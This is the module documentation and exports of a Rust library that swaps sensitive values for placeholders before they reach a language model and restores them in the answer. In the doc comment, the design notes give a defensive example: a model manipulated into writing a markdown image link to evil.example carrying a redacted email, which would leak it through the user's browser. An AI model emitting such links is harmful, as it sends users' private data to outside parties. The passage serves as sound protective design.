//! Reversible redaction: a value leaves as a placeholder and comes back where the model repeats it.
//!
//! How: nothing is stored. A placeholder is derived from a key, the caller, the kind and the value ([`Deriver`]), so
//! it is the same in every turn of a conversation, on every worker and after a restart. While a request is redacted
//! its values are assigned placeholders ([`Assignments`]); what that request came to ([`RestoreMap`]) finds further
//! places of the values ([`RestoreMap::sweep`]) and puts them back into the answer ([`Restorer`], [`restore_whole`],
//! [`restore_json`]). An answer can only bring back what its own request held: a placeholder of somebody else, of
//! another request or of a model's invention is left as it is, and counted.
//!
//! The caller's values came from the caller, so giving them back to the caller discloses nothing. Giving them to
//! somebody else would: a model that was talked into writing `![x](https://evil.example/?q=[EMAIL_ADDRESS_...])` has
//! the caller's browser send the value away. So nothing is restored in links, or glued to what may become one
//! ([`links`] has the rules).
//!
//! What it does not do: it does not restore what a model has changed (another case, other separators, percent-encoded,
//! split by other text), does not normalise (values are compared byte for byte, since what comes back must be what was
//! written), does not look into keys of JSON objects, and does not decide which values are redacted.

mod derive;
mod links;
mod map;
mod restore;

pub use derive::{Deriver, Form};
pub use map::{Assignments, Full, RestoreMap};
pub use restore::{Counts, Restorer, restore_arguments, restore_json, restore_whole};

#[cfg(test)]
mod tests;
